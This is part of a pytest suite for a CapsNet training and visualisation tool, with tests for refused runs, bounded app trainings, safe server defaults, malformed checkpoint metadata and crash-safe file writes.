        write_idx(root / "MNIST" / "raw", prefix, Split(synthetic_digits(n).images, torch.full((n,), 7)))
    return root


def test_multimnist_from_digits_of_one_class_is_refused_and_leaves_no_run_folder(
    sevens_root, synthetic_root, tmp_path, capsys
):
    train_ = ["train", "--data", "multimnist", "--device", "cpu", "--batch-size", "16"]
    runs = tmp_path / "runs"
    cases = ((sevens_root, "32", "the 32 MNIST training digits"), (synthetic_root, "1", "(--limit 1)"))
    for root, limit, found in cases:  # every digit a 7, or a --limit that keeps one digit
        assert cli.main([*train_, "--data-root", str(root), "--limit", limit, "--out", str(runs / "multi")]) == 2
        err = capsys.readouterr().err
        assert "MultiMNIST pairs two digits of different classes" in err and found in err and "are all " in err
        assert not runs.exists()  # the run folder (and the folder made for it) went again
    model = save_checkpoint(tmp_path / "m.safetensors", registry.build(tasks.for_task(TINY_CAPSNET, "multimnist")))
    evaluate = ["evaluate", "--checkpoint", str(model), "--data-root", str(sevens_root)]
    claims = ["multimnist-claims", "--models", str(two_digit_models(tmp_path / "models")), "--data-root",
              str(sevens_root), "--out", str(tmp_path / "claims.json")]  # fmt: skip
    for command in (evaluate, claims):
        assert cli.main(command) == 2
        err = capsys.readouterr().err
        assert f"the 40 MNIST test digits read from {sevens_root / 'MNIST'} are all 7s" in err, command[0]
    assert not (tmp_path / "claims.json").exists()


# --- trainings of closed tabs stop; a server runs a bounded number; runs/ is bounded -----------


@NEEDS_APP
def test_a_training_stops_when_its_session_is_gone(synthetic_root, tmp_path, monkeypatch):
    from capsviz.ui.training import TrainingJob, run_job

    monkeypatch.setenv("CAPSVIZ_DATA", str(synthetic_root))
    job = TrainingJob(tiny_config(epochs=100), 96, tmp_path / "run", owner_alive=lambda: False, grace_seconds=0)
    run_job(job)  # returns at the first report instead of training 100 epochs
    assert job.status == "stopped: its browser session closed" and job.error is None
    assert job.batches_done == 0 and not job.epochs


@NEEDS_APP
def test_a_session_away_for_less_than_the_grace_period_keeps_its_training(tmp_path):
    from capsviz.ui.training import TrainingJob

    present = [False]
    job = TrainingJob(tiny_config(), 96, tmp_path, owner_alive=lambda: present[0], grace_seconds=3600)
    assert not job.abandoned() and job.owner_gone_since is not None  # gone, but only just
    present[0] = True
    assert not job.abandoned() and job.owner_gone_since is None  # back: the clock restarts
    present[0], job.grace_seconds = False, 0
    assert job.abandoned()


@NEEDS_APP
def test_the_server_admits_a_bounded_number_of_trainings(tmp_path):
    from capsviz.ui.training import JobRegistry, TrainingJob

    jobs = JobRegistry(limit=2)
    first, second, third = (TrainingJob(tiny_config(), 96, tmp_path / str(i)) for i in range(3))
    assert jobs.admit(first) and jobs.admit(second)
    assert not jobs.admit(third)
    first.finished = 1.0  # a finished (or stopped) training frees its place
    assert jobs.admit(third) and jobs.active() == [second, third]


@NEEDS_APP
def test_the_app_refuses_a_training_over_the_servers_limit(synthetic_root, tmp_path, monkeypatch):
    from streamlit.testing.v1 import AppTest

    from capsviz.ui import state
    from capsviz.ui.training import TrainingJob, job_registry

    monkeypatch.setenv("CAPSVIZ_DATA", str(synthetic_root))
    monkeypatch.setenv("CAPSVIZ_RUNS", str(tmp_path / "runs"))
    monkeypatch.setenv("CAPSVIZ_MAX_TRAININGS", "1")
    job_registry.clear()
    try:
        assert job_registry().admit(TrainingJob(tiny_config(), 96, tmp_path / "another-session"))
        app = AppTest.from_file(str(REPO / "app.py"), default_timeout=120).run()
        app.session_state[state.TABS] = "Train"  # tabs are lazy: open Train as a click does
        app.run().button(key=state.TRAIN_START).click().run()
        assert not app.exception
        assert state.TRAIN_JOB not in app.session_state
        assert any("already runs 1 training" in w.value for w in app.warning)
        assert not (tmp_path / "runs").exists()
    finally:
        job_registry.clear()


@NEEDS_APP
def test_the_runs_folder_keeps_the_newest_app_runs_only(tmp_path):
    from capsviz.ui.training import prune_runs

    app_runs = [tmp_path / f"2026010{i}-120000-abcde{i}" for i in range(1, 6)]
    mine = tmp_path / "my-cli-run"
    for run in [*app_runs, mine]:
        run.mkdir()
        (run / "last.safetensors").write_bytes(b"x")
    gone = prune_runs(tmp_path, keep=2, protect={app_runs[0]})
    assert sorted(gone) == app_runs[1:3]
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(p.name for p in [app_runs[0], *app_runs[3:], mine])


# --- the server is safe by default -----------------------------------------------------------


@NEEDS_APP
def test_the_shipped_streamlit_config_is_what_capsviz_app_passes():
    tomllib = pytest.importorskip("tomllib")  # Python 3.11+
    from capsviz.ui.inputs import MAX_UPLOAD_MB
    from capsviz.ui.server import SETTINGS, command
    from capsviz.ui.sidebar import MAX_CHECKPOINT_MB

    config = tomllib.loads((REPO / ".streamlit" / "config.toml").read_text())
    shipped = {f"{section}.{name}": value for section, values in config.items() for name, value in values.items()}
    assert shipped == SETTINGS
    assert SETTINGS["server.address"] == "localhost"  # not every interface
    assert SETTINGS["server.maxUploadSize"] == max(MAX_UPLOAD_MB, MAX_CHECKPOINT_MB)  # no 190 MB uploads
    assert SETTINGS["client.showErrorDetails"] == "none"
    line = command(["--server.port", "8502"])
    assert "--server.address=localhost" in line and line[-2:] == ["--server.port", "8502"]  # later flags win


# Cases from a review of the registry, trace and export code.


@pytest.mark.parametrize(
    "header, message",
    [
        ({"w": {"dtype": ["F32"], "shape": [1], "data_offsets": [0, 4]}}, "bad entry for tensor 'w'"),
        ({"__metadata__": {"format": "capsviz-checkpoint", "card": 5}}, "metadata values must be strings"),
        ({"__metadata__": {"format": "capsviz-checkpoint", "version": "1", "config": "[" * 100_000}}, "config"),
        (
            {"__metadata__": {"format": "capsviz-checkpoint", "version": "1", "config": "{}", "card": "[" * 100_000}},
            "card",
        ),
    ],
)
def test_crafted_metadata_is_a_checkpoint_error_not_a_crash(header, message):
    body = json.dumps(header).encode()
    data = struct.pack("<Q", len(body)) + body + b"\0" * 4 * ("w" in header)
    with pytest.raises(CheckpointError, match=message):
        load_checkpoint(data)


def test_a_cnn_never_replaces_the_shipped_capsnet(tmp_path, synthetic_root, monkeypatch, capsys):
    shipped = tmp_path / "capsnet_mnist.safetensors"
    save_checkpoint(shipped, CapsNet(TINY_CAPSNET), {"test_accuracy": 0.9946})
    before = shipped.read_bytes()
    cnn = save_checkpoint(tmp_path / "cnn.safetensors", registry.build(CNNConfig()), {})
    monkeypatch.setattr(cli, "SHIPPED_CHECKPOINT", shipped)
    code = cli.main(["export", str(cnn), "--out", str(shipped), "--data-root", str(synthetic_root)])
    assert code == 2 and "give a cnn its own --out" in capsys.readouterr().err
    assert shipped.read_bytes() == before


def test_a_model_that_cannot_read_mnist_is_refused_by_the_commands(tmp_path, capsys):
    odd = save_checkpoint(tmp_path / "odd.safetensors", registry.build(CNNConfig(input_size=32)), {})
    image = tmp_path / "seven.png"
    Image.new("L", (28, 28)).save(image)
    assert cli.main(["predict", str(image), "--checkpoint", str(odd)]) == 2
    assert "MNIST needs 10 of 28x28x1" in capsys.readouterr().err


def test_routing_accuracy_checks_its_out_before_measuring(tmp_path, capsys, monkeypatch):
    monkeypatch.setattr("capsviz.analysis.routing_accuracy.measure", lambda *a, **k: pytest.fail("measured first"))
    code = cli.main(["routing-accuracy", "--checkpoint", str(save_checkpoint(tmp_path / "m.safetensors",
                     CapsNet(TINY_CAPSNET))), "--out", str(tmp_path / "missing" / "r.json")])  # fmt: skip
    assert code == 2 and "writable folder" in capsys.readouterr().err


def test_a_killed_exports_staging_folder_is_cleaned_up(tmp_path):
    stale = tmp_path / ".capsnet_mnist.safetensors.export-abc.tmp"
    stale.mkdir()
    (stale / "capsnet_mnist.safetensors").write_bytes(b"half an export")
    os.utime(stale, (0, 0))
    save_checkpoint(tmp_path / "capsnet_mnist.safetensors", CapsNet(TINY_CAPSNET))
    assert not stale.exists()


# Commands that must not replace what they should not: the shipped folder, a foreign file, a partial report.


@pytest.fixture
def shipped_folder(tmp_path, monkeypatch) -> Path:
    """A stand-in for pretrained/: the shipped CapsNet, its card, the CNN baseline and a routing report."""
    folder = tmp_path / "pretrained"
    shipped = save_checkpoint(folder / "capsnet_mnist.safetensors", CapsNet(TINY_CAPSNET), {"test_accuracy": 0.99})
    save_checkpoint(folder / "cnn_mnist.safetensors", registry.build(CNNConfig()), {})
    for name in ("capsnet_mnist.json", "capsnet_mnist.routing.json"):
        (folder / name).write_text('{"test_images": 10000}\n')
    monkeypatch.setattr(cli, "SHIPPED_CHECKPOINT", shipped)
    monkeypatch.setattr("capsviz.checkpoint.PRETRAINED_DIR", folder)
    return folder


def _contents(folder: Path) -> dict[str, bytes]:
    return {p.name: p.read_bytes() for p in sorted(folder.iterdir())}


@pytest.mark.parametrize(
    ("name", "message"),
    [
        ("capsnet_mnist.safetensors", "measured on all 10,000 MNIST test images; this measurement has 40"),
        ("cnn_mnist.safetensors", "holds a cnn model; give a capsnet its own --out"),
        ("capsnet_mnist", "must be a .safetensors file name"),
        ("capsnet_mnist.json", "must be a .safetensors file name"),
    ],
)
def test_export_never_replaces_a_shipped_file_with_a_partial_or_foreign_one(
    good_run, synthetic_root, shipped_folder, name, message, capsys
):
    before = _contents(shipped_folder)
    code = cli.main(["export", str(good_run), "--out", str(shipped_folder / name), "--data-root", str(synthetic_root)])
    assert code == 2 and message in capsys.readouterr().err
    assert _contents(shipped_folder) == before  # no file changed, none left behind


def test_export_refuses_a_capsnet_the_explorer_cannot_show_as_the_shipped_one(
    synthetic_root, shipped_folder, tmp_path, capsys
):
    eight = save_checkpoint(tmp_path / "d8.safetensors", CapsNet(replace(TINY_CAPSNET, digit_dim=8)), {})
    before = _contents(shipped_folder)
    code = cli.main(["export", str(eight), "--out", str(cli.SHIPPED_CHECKPOINT), "--data-root", str(synthetic_root)])
    assert code == 2 and "the views need 16-D" in capsys.readouterr().err
    assert _contents(shipped_folder) == before


def test_export_refuses_a_folder_or_a_foreign_file_before_measuring(good_run, tmp_path, monkeypatch, capsys):
    monkeypatch.setattr("capsviz.train.evaluate", lambda *a, **k: pytest.fail("measured first"))
    folder = tmp_path / "a.safetensors"
    folder.mkdir()
    foreign = tmp_path / "trace.safetensors"
    foreign.write_bytes(b"not a checkpoint")
    for out, message in ((folder, "must be a .safetensors file name"), (foreign, "not a capsviz model checkpoint")):
        assert cli.main(["export", str(good_run), "--out", str(out)]) == 2
        assert message in capsys.readouterr().err
    assert foreign.read_bytes() == b"not a checkpoint"


def test_runs_traces_and_partial_reports_stay_out_of_pretrained(shipped_folder, synthetic_root, capsys, monkeypatch):
    monkeypatch.setattr("capsviz.analysis.routing_accuracy.measure", lambda *a, **k: pytest.fail("measured first"))
    before = _contents(shipped_folder)
    image = shipped_folder.parent / "seven.png"
    draw_digit(7).save(image)
    trace = ["trace", str(image), "--checkpoint", str(cli.SHIPPED_CHECKPOINT)]
    for out in (shipped_folder / "cnn_mnist.safetensors", shipped_folder / "traces" / "seven.safetensors"):
        assert cli.main([*trace, "--out", str(out)]) == 2
        assert "among the shipped models" in capsys.readouterr().err
    monkeypatch.setattr("capsviz.analysis.robustness.measure", lambda *a, **k: pytest.fail("measured first"))
    robust = ["robustness", "--data-root", str(synthetic_root), "--out-dir", str(shipped_folder)]
    assert cli.main(robust) == 2 and "measured on all 10,000 MNIST test images" in capsys.readouterr().err
    train = ["train", "--data-root", str(synthetic_root), "--limit", "64", "--out", str(shipped_folder / "run")]
    with pytest.raises(SystemExit) as refused:  # argparse's exit, before any data is read
        cli.main(train)
    assert refused.value.code == 2 and "among the shipped models" in capsys.readouterr().err
    measure = ["routing-accuracy", "--checkpoint", str(cli.SHIPPED_CHECKPOINT)]
    for partial in (["--limit", "5"], []):  # 5 or 40 test images, not 10,000
        partial += ["--data-root", str(synthetic_root)]
        assert cli.main([*measure, *partial]) == 2
        assert "measured on all 10,000 MNIST test images" in capsys.readouterr().err
    assert _contents(shipped_folder) == before


@pytest.fixture
def whole_test_sets(monkeypatch) -> None:
    """The 40 synthetic test images stand for a whole test set: a measurement on them may land in pretrained/."""
    for task in ("mnist", "multimnist"):
        monkeypatch.setitem(tasks.TASKS, task, replace(tasks.TASKS[task], test_size=40))


def test_a_report_replaces_no_other_shipped_file_and_its_own_one_still(
    shipped_folder, whole_test_sets, synthetic_root, tmp_path, monkeypatch, capsys
):
    monkeypatch.setattr("capsviz.analysis.multimnist_claims.REPORT", shipped_folder / "multimnist_claims.json")
    data = ["--data-root", str(synthetic_root)]
    measure = ["routing-accuracy", "--checkpoint", str(cli.SHIPPED_CHECKPOINT), *data]
    claims = ["multimnist-claims", "--models", str(two_digit_models(tmp_path / "models")), *data]
    before = _contents(shipped_folder)
    for command, other in ((measure, "capsnet_mnist.json"), (claims, "capsnet_mnist.routing.json")):
        assert cli.main([*command, "--out", str(shipped_folder / other)]) == 2
        assert "among the shipped models (pretrained/): write this report elsewhere" in capsys.readouterr().err
    assert _contents(shipped_folder) == before
    assert cli.main(measure) == 0 and cli.main(claims) == 0  # each its own report: NAME.routing.json, the claims
    after = _contents(shipped_folder)
    assert set(after) == {*before, "multimnist_claims.json"}
    assert [name for name in before if after[name] != before[name]] == ["capsnet_mnist.routing.json"]


@pytest.mark.parametrize("config", [TINY_CAPSNET, TINY_CNN])
def test_export_never_replaces_a_shipped_model_of_the_other_task(
    shipped_folder, whole_test_sets, synthetic_root, tmp_path, capsys, config
):
    shipped = shipped_folder / f"{registry.kind_of(config)}_multimnist.safetensors"
    shipped.write_bytes(checkpoint_bytes(registry.build(tasks.for_task(config, "multimnist")), {}))
    run = save_checkpoint(tmp_path / "run.safetensors", registry.build(config), {})  # an MNIST model of that kind
    before = _contents(shipped_folder)
    code = cli.main(["export", str(run), "--out", str(shipped), "--data-root", str(synthetic_root)])
    assert code == 2
    assert "holds a model trained on MultiMNIST; give this MNIST model its own --out" in capsys.readouterr().err
    assert _contents(shipped_folder) == before


def test_trace_replaces_nothing_but_an_earlier_trace(tmp_path, capsys):
    model = save_checkpoint(tmp_path / "m.safetensors", CapsNet(TINY_CAPSNET), {})
    image = tmp_path / "seven.png"
    draw_digit(7).save(image)
    trace = ["trace", str(image), "--checkpoint", str(model), "--out"]
    readme, folder, pipe = tmp_path / "README.md", tmp_path / "folder.safetensors", tmp_path / "pipe.safetensors"
    readme.write_text("notes")
    folder.mkdir()
    os.mkfifo(pipe)  # reading it would wait for a writer
    device = tmp_path / "device.safetensors"
    device.symlink_to("/dev/null")
    cases = [
        (readme, "must be a .safetensors file name"),
        (Path("/dev/null"), "must be a .safetensors file name"),
        (folder, "exists and is not a regular file"),
        (pipe, "exists and is not a regular file"),
        (device, "exists and is not a regular file"),
        (model, "exists and is not a capsviz routing trace"),
    ]
    for out, message in cases:
        assert cli.main([*trace, str(out)]) == 2
        assert message in capsys.readouterr().err, out
    assert readme.read_text() == "notes" and folder.is_dir() and stat.S_ISFIFO(pipe.stat().st_mode)
    assert device.is_symlink() and Path("/dev/null").is_char_device()
    assert not any(map(trace_export.is_trace, (readme, folder, pipe, device, model, tmp_path / "none.safetensors")))
    assert load_checkpoint(model)[0].config == TINY_CAPSNET
    mine = tmp_path / "seven.safetensors"
    assert cli.main([*trace, str(mine)]) == 0 and trace_export.is_trace(mine)
    assert cli.main([*trace, str(mine)]) == 0  # an earlier trace is replaced


def test_train_into_a_folder_that_holds_a_run_is_refused_unless_it_resumes_it(synthetic_root, tmp_path):
    out = tmp_path / "run"
    assert tiny_train(synthetic_root, out, "--epochs", "1").returncode == 0
    before = (out / "last.safetensors").read_bytes()
    again = tiny_train(synthetic_root, out, "--epochs", "1")
    assert again.returncode == 2 and f"--resume {out / 'last.safetensors'}" in again.stderr
    assert (out / "last.safetensors").read_bytes() == before
    resumed = tiny_train(synthetic_root, out, "--epochs", "2", "--resume", out / "last.safetensors")
    assert resumed.returncode == 0, resumed.stderr


def test_threads_far_beyond_the_cores_are_refused(tmp_path):
    result = tiny_train(tmp_path, tmp_path / "run", "--threads", "100000")
    assert result.returncode == 2 and "--threads" in result.stderr and "Traceback" not in result.stderr


def test_export_refuses_to_count_a_resumed_runs_own_epochs_twice(synthetic_root, tmp_path):
    """Found by a review: export --continues of the run's own earlier export doubled its epochs."""
    out = tmp_path / "run"
    assert tiny_train(synthetic_root, out, "--epochs", "1").returncode == 0
    first = tmp_path / "first.safetensors"
    assert capsviz("export", out / "last.safetensors", "--out", first, "--data-root", synthetic_root).returncode == 0
    assert tiny_train(synthetic_root, out, "--epochs", "2", "--resume", out / "last.safetensors").returncode == 0
    both = tmp_path / "both.safetensors"
    twice = capsviz("export", out / "last.safetensors", "--out", both, "--data-root", synthetic_root,
                    "--continues", first.with_suffix(".json"))  # fmt: skip
    assert twice.returncode == 2 and "already holds that card's 1 epoch(s)" in twice.stderr and not both.exists()
    once = capsviz("export", out / "last.safetensors", "--out", both, "--data-root", synthetic_root)
    assert once.returncode == 0 and json.loads(both.with_suffix(".json").read_text())["epochs"] == 2


def test_resume_keeps_the_runs_batch_size_seed_and_images(synthetic_root, tmp_path):
    """Found by a review: a resume with another batch size rewrote the card's batch_size for the whole run."""
    out = tmp_path / "run"
    assert tiny_train(synthetic_root, out, "--epochs", "1").returncode == 0
    before = (out / "last.safetensors").read_bytes()
    last = out / "last.safetensors"
    for change, message in ((("--batch-size", "16"), "--batch-size 32"), (("--seed", "5"), "--seed 0")):
        result = capsviz("train", "--epochs", "2", "--limit", 64, "--device", "cpu", "--data-root", synthetic_root,
                         "--out", out, "--resume", last, "--batch-size", 32, *change)  # fmt: skip
        assert result.returncode == 2 and message in result.stderr
    fewer = tiny_train(synthetic_root, out, "--epochs", "2", "--resume", last, "--limit", "48")
    assert fewer.returncode == 2 and "trained on 64 images" in fewer.stderr
    assert last.read_bytes() == before
    unset = capsviz("train", "--epochs", "2", "--device", "cpu", "--data-root", synthetic_root, "--out", out,
                    "--resume", last)  # fmt: skip
    assert unset.returncode == 0, unset.stderr  # the run's batch size, seed and 64 of the 96 images
    card = read_card(last)
    assert (card["batch_size"], card["seed"], card["train_images"], card["epochs"]) == (32, 0, 64, 2)


# --- checkpoints and cards: what a card says is checked before any work -----------------------------


def with_card(path: Path, change) -> Path:
    """Rewrite a checkpoint's card in place with `change(card)`, keeping its tensors."""
    with safe_open(str(path), "pt") as handle:
        metadata = handle.metadata()
        tensors = {key: handle.get_tensor(key) for key in handle.keys()}
    card = json.loads(metadata["card"])
    change(card)
    save_file(tensors, str(path), metadata={**metadata, "card": json.dumps(card)})
    return path


@pytest.mark.parametrize("name", [5, ["a", "b"], "x" * 201])
def test_robustness_refuses_a_card_name_the_tables_cannot_hold_before_measuring(tmp_path, monkeypatch, capsys, name):
    model = save_checkpoint(tmp_path / "m.safetensors", registry.build(CNNConfig()), {"name": name})
    monkeypatch.setattr("capsviz.analysis.robustness.measure", lambda *a, **k: pytest.fail("measured first"))
    assert cli.main(["robustness", "--checkpoint", str(model), "--data-root", str(tmp_path)]) == 2
    assert "'name'" in capsys.readouterr().err


def test_a_model_name_with_a_bar_and_a_newline_stays_in_its_table_cell():
    from capsviz.analysis import robustness

    def result(name: str) -> dict:
        sweeps = {"rotation": [0.5, 0.25]}
        entry = {"name": name, "kind": "cnn", "params": 10, "mnist": 0.9, "affine": 0.5, "sweeps": sweeps}
        about = {"date": "d", "hardware": "h", "torch": "t", "command": "c `x`", "seed": 0, "affine_shrunk": 0}
        return {**about, "test_images": 4, "sweep_values": {"rotation": [0, 10]}, "sweep_images": 4, "models": [entry]}

    plain = robustness.markdown(result("plain")).splitlines()
    crafted = robustness.markdown(result("a | b\n| injected | row |")).splitlines()
    assert [line.count(" | ") for line in crafted] == [line.count(" | ") for line in plain]  # no row, no column more
    assert "`` c `x` ``" in crafted[0]  # a backtick in the command stays inside its code span


@pytest.mark.parametrize(
    "card, field",
    [
        ({"history": 5}, "'history'"),
        ({"history": [{"test_accuracy": "high"}]}, "'history'"),
        ({"epochs": "3"}, "'epochs'"),
        ({"wall_seconds": "long"}, "'wall_seconds'"),
        ({"test_accuracy_per_epoch": ["high"]}, "'test_accuracy_per_epoch'"),
    ],
)
def test_export_refuses_a_run_card_it_cannot_read_before_any_work(tmp_path, monkeypatch, capsys, card, field):
    run = save_checkpoint(tmp_path / "run.safetensors", CapsNet(TINY_CAPSNET), card)
    earlier = tmp_path / "earlier.json"
    earlier.write_text(json.dumps({"epochs": 1, "wall_seconds": 2.0, "test_accuracy_per_epoch": [0.5]}))
    monkeypatch.setattr(cli, "load_mnist", lambda *a, **k: pytest.fail("read the test set first"))
    out = tmp_path / "out.safetensors"
    assert cli.main(["export", str(run), "--out", str(out), "--continues", str(earlier)]) == 2
    assert field in capsys.readouterr().err and not out.exists()


# --- arguments: a resumed card's settings have the bounds of the options ------------------------------


@pytest.mark.parametrize(
    "key, value", [("batch_size", 0), ("batch_size", 10**30), ("seed", -5), ("seed", "5"), ("train_images", 0)]
)
def test_resume_of_a_card_with_settings_out_of_bounds_is_refused_before_any_work(
    run_copy, tmp_path, monkeypatch, capsys, key, value
):
    with_card(run_copy, lambda card: card.update({key: value}))
    monkeypatch.setattr(cli, "load_mnist", lambda *a, **k: pytest.fail("read the data first"))
    with pytest.raises(SystemExit) as stopped:
        cli.main(["train", "--resume", str(run_copy), "--epochs", "2", "--out", str(tmp_path / "r")])
    assert stopped.value.code == 2 and f"'{key}'" in capsys.readouterr().err


@pytest.mark.parametrize("option", ["--batch-size", "--seed"])
def test_a_batch_size_or_seed_beyond_what_a_run_can_use_is_refused(tmp_path, capsys, option):
    with pytest.raises(SystemExit) as stopped:
        cli.main(["train", option, str(10**30), "--out", str(tmp_path / "r")])
    assert stopped.value.code == 2 and "out of range" in capsys.readouterr().err


# --- runs: one writer per run folder; kills leave nothing behind --------------------------------------


def holding_the_lock(folder: Path) -> subprocess.Popen:
    """Another process that holds `folder`'s run lock until it is killed."""
    code = ("import sys, time; from pathlib import Path; from capsviz.files import exclusive\n"
            "with exclusive(Path(sys.argv[1]), '--out'):\n    print('held', flush=True); time.sleep(120)")  # fmt: skip
    holder = subprocess.Popen([sys.executable, "-c", code, str(folder)], stdout=subprocess.PIPE, text=True, env=ENV)
    assert holder.stdout.readline().strip() == "held"
    return holder


def dead_pid() -> int:
    """The id of a process that has exited."""
    gone = subprocess.Popen([sys.executable, "-c", ""])
    gone.wait()
    return gone.pid


def test_a_second_training_into_a_run_folder_in_use_is_refused_naming_the_holder(synthetic_root, tmp_path, capsys):
    out = tmp_path / "run"
    out.mkdir()
    holder = holding_the_lock(out)
    try:
        args = ["--epochs", "1", "--batch-size", "32", "--limit", "64", "--device", "cpu"]
        args += ["--data-root", str(synthetic_root)]
        assert cli.main(["train", *args, "--out", str(out)]) == 2
        assert f"in use by process {holder.pid}" in capsys.readouterr().err
        assert not (out / "last.safetensors").exists()
    finally:
        holder.kill()
        holder.wait()
    # killed, its lock file is left with its pid: the next run takes it over
    assert str(holder.pid) in (out / ".capsviz.lock").read_text()
    assert cli.main(["train", *args, "--out", str(out)]) == 0
    assert (out / "last.safetensors").exists() and not (out / ".capsviz.lock").exists()


def test_a_run_that_finished_while_another_waited_is_never_replaced(good_run, splits, tmp_path):
    out = tmp_path / "run"
    out.mkdir()
    (out / "last.safetensors").write_bytes(good_run.read_bytes())  # written after the command line's own check
    with pytest.raises(RunFolderError, match="already holds a run"):
        train(*splits, out, tiny_config())
    assert (out / "last.safetensors").read_bytes() == good_run.read_bytes()


def killed_after_replacing(suffix: str, *args) -> subprocess.CompletedProcess:
    """`python -m capsviz ARGS`, killed (no cleanup runs) right after it renames a file ending in `suffix`."""
    code = ("import os, runpy, sys\nreal, suffix = os.replace, sys.argv[1]\n"
            "def replace(src, dst):\n    real(src, dst)\n"
            "    if str(dst).endswith(suffix):\n        os._exit(137)\n"
            "os.replace = replace\nsys.argv = ['capsviz', *sys.argv[2:]]\n"
            "runpy.run_module('capsviz', run_name='__main__')")  # fmt: skip
    done = subprocess.run(
        [sys.executable, "-c", code, suffix, *map(str, args)], capture_output=True, text=True, env=ENV
    )
    assert done.returncode == 137, done.stderr
    return done


def test_a_training_killed_between_its_checkpoint_and_its_logs_loses_no_log(synthetic_root, splits, tmp_path):
    out = tmp_path / "run"
    killed_after_replacing("last.safetensors", "train", "--epochs", 1, "--batch-size", 32, "--limit", 64,
                           "--device", "cpu", "--data-root", synthetic_root, "--out", out)  # fmt: skip
    last = out / "last.safetensors"
    assert read_card(last)["epochs"] == 1
    result = train(*splits, out, tiny_config(epochs=1), resume=last)  # nothing left to train
    assert result.checkpoint is None
    assert [row["epoch"] for row in json.loads((out / "log.json").read_text())] == [1]
    assert (out / "log.csv").read_text().count("\n") == 2
    assert not [p.name for p in out.iterdir() if p.name.endswith(".tmp")]


def test_temporaries_of_killed_writers_are_removed_when_a_run_starts(run_copy, splits, tmp_path):
    from capsviz.train import clean_run_folders

    out = tmp_path / "run"
    out.mkdir()
    last = out / "last.safetensors"
    last.write_bytes(run_copy.read_bytes())
    pid = dead_pid()
    left = [out / f".last.safetensors.capsviz-{pid}-abc.tmp", out / f".log.json.capsviz-{pid}-def.tmp"]
    for path in left:
        path.write_bytes(b"half a file")  # written a moment ago, by a process that is gone
    staging = out / f".last.safetensors.capsviz-{pid}-ghi.tmp"
    staging.mkdir()
    (staging / "last.safetensors").write_bytes(b"staged before the kill")
    train(*splits, out, tiny_config(epochs=1), resume=last)
    assert sorted(p.name for p in out.iterdir()) == ["last.safetensors", "log.csv", "log.json"]
    app_run = tmp_path / "runs" / "20260101-000000-abcdef"
    app_run.mkdir(parents=True)
    (app_run / left[0].name).write_bytes(b"98 MB of a killed server's epoch")
    clean_run_folders(tmp_path / "runs")  # the app, before it starts a training
    assert list(app_run.iterdir()) == []


@NEEDS_APP
def test_a_starting_server_removes_what_a_killed_one_left_in_its_runs(run_copy, synthetic_root, tmp_path, monkeypatch):
    from streamlit.testing.v1 import AppTest

    run = tmp_path / "runs" / "20260101-000000-abcdef"
    run.mkdir(parents=True)
    (run / "last.safetensors").write_bytes(run_copy.read_bytes())
    left = run / f".last.safetensors.capsviz-{dead_pid()}-abc.tmp"
    left.write_bytes(b"98 MB of a killed server's epoch")
    monkeypatch.setenv("CAPSVIZ_DATA", str(synthetic_root))
    monkeypatch.setenv("CAPSVIZ_RUNS", str(tmp_path / "runs"))
    app = AppTest.from_file(str(REPO / "app.py"), default_timeout=120).run()
    assert not app.exception and not left.exists()  # before anyone trains
    assert [p.name for p in run.iterdir()] == ["last.safetensors"]


def test_a_killed_export_never_pairs_its_weights_with_the_old_card(good_run, synthetic_root, tmp_path):
    out = tmp_path / "model.safetensors"
    base = ["export", good_run, "--data-root", synthetic_root]
    assert capsviz(*base, "--out", out, "--note", "first").returncode == 0
    killed_after_replacing("model.safetensors", *base, "--out", out, "--note", "second")
    assert read_card(out)["note"] == "second"  # every reader takes the card inside the weights
    staged = [p for p in tmp_path.iterdir() if p.name.endswith(".tmp")]
    assert staged  # what the kill left
    assert cli.main([*map(str, base), "--out", str(tmp_path / "other.safetensors")]) == 0  # any write command
    assert json.loads(out.with_suffix(".json").read_text()) == read_card(out)  # finished, not left half
    assert not [p for p in tmp_path.iterdir() if p.name.endswith(".tmp")]


# --- report files: the three files of a robustness report are replaced together ---------------------


@pytest.fixture
def tiny_robustness(tmp_path, synthetic_root, monkeypatch) -> list[str]:
    """`robustness` arguments that measure one tiny CapsNet (not the shipped models) on 8 images."""
    monkeypatch.setattr("capsviz.analysis.robustness.shipped_models", lambda: [])
    model = save_checkpoint(tmp_path / "tiny.safetensors", CapsNet(TINY_CAPSNET), {})
    return ["robustness", "--checkpoint", str(model), "--data-root", str(synthetic_root), "--limit", "8"]


robustness_files = ("robustness.md", "robustness.json", "sweeps.png")


def test_robustness_replaces_none_of_its_files_when_one_cannot_be_written(
    tiny_robustness, tmp_path, monkeypatch, capsys
):
    out = tmp_path / "report"
    out.mkdir()
    for name in robustness_files:
        (out / name).write_text(f"old {name}")
    real_fsync = os.fsync

    def full_disk_at_the_png(fd):
        if "sweeps.png" in os.readlink(f"/proc/self/fd/{fd}"):
            raise OSError(errno.ENOSPC, "No space left on device")
        real_fsync(fd)

    monkeypatch.setattr(os, "fsync", full_disk_at_the_png)
    assert cli.main([*tiny_robustness, "--out-dir", str(out)]) == 2
    err = capsys.readouterr().err
    assert "sweeps.png" in err and "nothing was replaced" in err
    assert {p.name: p.read_text() for p in out.iterdir()} == {name: f"old {name}" for name in robustness_files}


def _full_disk(monkeypatch) -> None:
    """Every fsync fails as on a full disk: each write fails at its last step, after its data is out."""

    def full(fd):
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(os, "fsync", full)


def test_train_export_and_routing_accuracy_on_a_full_disk_name_the_file_and_replace_nothing(
    good_run, synthetic_root, tmp_path, monkeypatch, capsys
):
    data = ["--data-root", str(synthetic_root)]
    report = tmp_path / "routing.json"
    report.write_text("old report")
    commands = {
        "train": ["train", *data, "--limit", "64", "--batch-size", "32", "--out", str(tmp_path / "run")],
        "export": ["export", str(good_run), *data, "--out", str(tmp_path / "new.safetensors")],
        "routing-accuracy": ["routing-accuracy", "--checkpoint", str(good_run), *data, "--out", str(report)],
    }
    _full_disk(monkeypatch)
    for name, argv in commands.items():
        assert cli.main(argv) == 2, name
        err = capsys.readouterr().err
        assert "No space left on device while writing" in err and str(tmp_path) in err, (name, err)
    monkeypatch.undo()
    assert report.read_text() == "old report"
    assert not (tmp_path / "new.safetensors").exists() and not (tmp_path / "run" / "last.safetensors").exists()
    leftovers = [p.name for p in tmp_path.rglob("*") if p.name.endswith(".tmp")]  # temporaries and staging folders
    assert not leftovers, leftovers


def test_a_robustness_run_killed_between_renames_is_finished_by_the_next_write(tiny_robustness, tmp_path):
    from capsviz.files import clean_stale

    out = tmp_path / "report"
    out.mkdir()
    for name in robustness_files:
        (out / name).write_text(f"old {name}")
